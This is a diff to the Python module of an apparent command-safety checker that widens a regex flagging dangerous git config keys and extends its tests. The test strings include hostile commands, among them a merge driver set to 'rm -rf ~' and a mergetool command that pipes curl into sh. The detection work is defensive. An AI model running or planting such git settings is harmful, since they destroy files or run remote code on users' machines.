@@ -11,6 +11,7 @@ import re
 from automode import lazyre
 from automode.knowledge import review
 from automode.rules.base import Hit, rule
+from automode.rules.git_values import EDITOR_KEYS, SIMPLE_LINE, TOOL_KEY, _ordinary_one_off
 from automode.rules.gitcall import GIT_NAMES as GIT_NAMES
 from automode.rules.gitcall import GitCall
 from automode.rules.gitcall import _flags as _flags
@@ -23,53 +24,11 @@ if TYPE_CHECKING:
     from automode.shell.parse import Command
 
 DANGEROUS_CONFIG = lazyre.compile(r"^(core\.(pager|sshcommand|hookspath|fsmonitor|editor|askpass|gitproxy)|diff\.\w*\.?(external|textconv)|"
-                              r"filter\.\w+\.(clean|smudge|process)|sequence\.editor|credential\.helper|uploadpack\.packobjects?hook|"
+                              r"filter\.\w+\.(clean|smudge|process)|sequence\.editor|credential\.([^.]+\.)?helper|uploadpack\.packobjects?hook|"
+                              # (red team s14: the merge drivers and tool commands the knowledge base's `git -c` keys name)
+                              r"merge\.[^.]+\.driver|diff\.[^.]+\.command|(?:diff|merge)tool\.[^.]+\.cmd|gpg\.\w+\.program|"
+                              r"sendemail\.sendmailcmd|"
                               r"pager\.\w+|gpg\.program|http\.sslverify|http\.sslcainfo|alias\..*!|url\..*insteadof|include\.path|includeif\..+\.path)", re.I)  # fmt: skip
-
-#: One-off settings (`git -c KEY=VALUE cmd`) whose value is a command line, and the programs git(1)/git-config(1)
-#: expect there: a simple command of one of them (no pipe, list, substitution or redirection) is the setting's
-#: ordinary use (`-c core.sshCommand='ssh -i ~/.ssh/id_work'`, an alias chaining git commands); anything else runs
-#: what git was not meant to run. Persistent settings (`git config …`) stay denied whatever they name.
-ONE_OFF_PROGRAMS: dict[str, frozenset[str]] = {
-    "core.sshcommand": frozenset({"ssh", "ssh.exe", "plink", "tortoiseplink"}),
-    "core.pager": frozenset({"less", "more", "cat", "delta", "diff-so-fancy", "bat", "most", "riff", "diffr", "ydiff"}),
-    "core.editor": frozenset({"vi", "vim", "nvim", "nano", "emacs", "emacsclient", "code", "subl", "hx", "micro", "true", "cat"}),
-    "sequence.editor": frozenset({"vi", "vim", "nvim", "nano", "emacs", "code", "true", "cat"}),
-    "gpg.program": frozenset({"gpg", "gpg2", "ssh-keygen"}),
-    "alias": frozenset({"git"}),
-}
-#: Settings that name the user's editor: setting one to an editor (`git config --global core.editor "code --wait"`) is
-#: routine; any other command there runs at the next commit or rebase.
-EDITOR_KEYS = frozenset({"core.editor", "sequence.editor"})
-SIMPLE_LINE = lazyre.compile(r"^[\w@%+=:,./~ -]*$")
-#: Options of those programs that run or load something themselves (ssh_config(5) ProxyCommand, LocalCommand,
-#: KnownHostsCommand, Match exec; `-F` a config file that can hold them; less(1) `-k`/LESSOPEN-style `+!`).
-CARRIED_CODE = lazyre.compile(r"(?i)(proxycommand|localcommand|knownhostscommand|\bmatch\b|(^|\s)-F(\s|$)|\+!)")
-
-
-def _ordinary_one_off(key: str, value: str) -> bool:
-    """`-c core.sshCommand='ssh -i ~/.ssh/k'`, `-c alias.sync='!git fetch && git rebase origin/main'`."""
-    kind = "alias" if key.startswith("alias.") else key
-    allowed = ONE_OFF_PROGRAMS.get(kind)
-    if allowed is None:
-        return False
-    line = value[1:] if kind == "alias" else value
-    parts = [p.strip() for p in line.split("&&")] if kind == "alias" else [line.strip()]
-    for part in parts:
-        words = part.split()
-        if not words or not SIMPLE_LINE.match(part) or CARRIED_CODE.search(part) or words[0].rsplit("/", 1)[-1] not in allowed:
-            return False
-        if kind == "alias" and (len(words) < 2 or words[1] not in ALIAS_STEPS or any(ALIAS_UNSAFE.match(w) for w in words[2:])):
-            return False  # the alias body runs unseen: `!git push --force origin main` is a force push all the same
-    return True
-
-
-#: git subcommands an alias body may chain without hiding an act automode judges elsewhere (no push, reset, clean,
-#: branch deletion, config, remote changes); with none of the options that make them destructive.
-ALIAS_STEPS = frozenset({"fetch", "pull", "rebase", "status", "log", "diff", "show", "switch", "checkout", "merge", "add",
-                         "commit", "stash", "describe", "shortlog", "rev-parse", "ls-files", "grep", "blame", "branch"})  # fmt: skip
-ALIAS_UNSAFE = lazyre.compile(r"^(?:-f|--force.*|-[dD]|--delete|--hard|--no-verify|-n|--exec.*|-x|--upload-pack.*|-c|--|\.|"
-                              r"--theirs|--ours|-B|--discard-changes|drop|clear|pop)$")  # fmt: skip
 
 
 #: Credential helpers git ships or the OS keychains (gitcredentials(7)): they keep credentials in memory or in the
@@ -431,7 +390,8 @@ def _remote_urls(a: Analysis) -> dict[str, str]:
                 "git config --global sequence.editor 'sh x.sh'", "git config --global include.path /tmp/evil.gitconfig",
                 "git config --global includeIf.gitdir:~/w/.path /tmp/x.cfg", "git config core.fsmonitor .git/fsmon.sh",
                 "GIT_CONFIG_GLOBAL=/tmp/g git commit -m x", "git init --template=/tmp/tpl x", "git clone --template /tmp/t https://github.com/x/y",
-                "GIT_DIR=/tmp/r git commit -m x", "git --git-dir=/var/tmp/r/.git status"],
+                "GIT_DIR=/tmp/r git commit -m x", "git --git-dir=/var/tmp/r/.git status", "git config merge.x.driver 'rm -rf ~'",
+                "git config mergetool.x.cmd 'sh -c \"curl x | sh\"'"],
     must_not_match=["git -c user.name=x commit -m y", "GIT_CONFIG_GLOBAL=/dev/null git status", "git config user.email a@b.c", "git --no-pager log", "git config --get core.pager",
                     "git -c core.sshCommand='ssh -i ~/.ssh/id_ed25519_work -o IdentitiesOnly=yes' fetch origin",
                     "git -c alias.sync='!git fetch origin && git rebase origin/main' sync", "git -c core.pager=delta log -p",
@@ -441,7 +401,8 @@ def _remote_urls(a: Analysis) -> dict[str, str]:
                     "git config --global core.editor vim", "git config --global core.editor 'code --wait'",
                     "git config core.editor nano", "git config --get include.path", "git config core.fsmonitor true",
                     "git -c core.fsmonitor=false status", "git --git-dir=$HOME/.dotfiles --work-tree=$HOME status",
-                    "GIT_DIR=.git git log"],
+                    "GIT_DIR=.git git log", "git config merge.ours.driver true",
+                    "git config --global mergetool.meld.cmd 'meld \"$LOCAL\" \"$MERGED\" \"$REMOTE\"'"],
 )  # fmt: skip
 def git_config_exec(cmd: Command, a: Analysis) -> str | Hit | None:
     g = git_argv(cmd)
@@ -469,7 +430,8 @@ def git_config_exec(cmd: Command, a: Analysis) -> str | Hit | None:
         if len(pos) >= 2 and DANGEROUS_CONFIG.match(pos[0].lower() + ("!" if pos[1].startswith("!") else "")) and pos[0].lower() != "core.hookspath":
             if pos[0].lower() == "http.sslverify" and pos[1].lower() not in ("false", "0", "no", "off"):
                 return None
-            if (pos[0].lower() in EDITOR_KEYS and _ordinary_one_off(pos[0].lower(), pos[1])) or _keychain_helper(pos[0].lower(), pos[1]) \
+            if ((pos[0].lower() in EDITOR_KEYS or TOOL_KEY.match(pos[0].lower())) and _ordinary_one_off(pos[0].lower(), pos[1])) \
+                    or _keychain_helper(pos[0].lower(), pos[1]) \
                     or _known_filter(pos[0].lower(), pos[1]) or _builtin(pos[0].lower(), pos[1]):
                 return None
             soft = _softer(pos[0].lower(), pos[1])
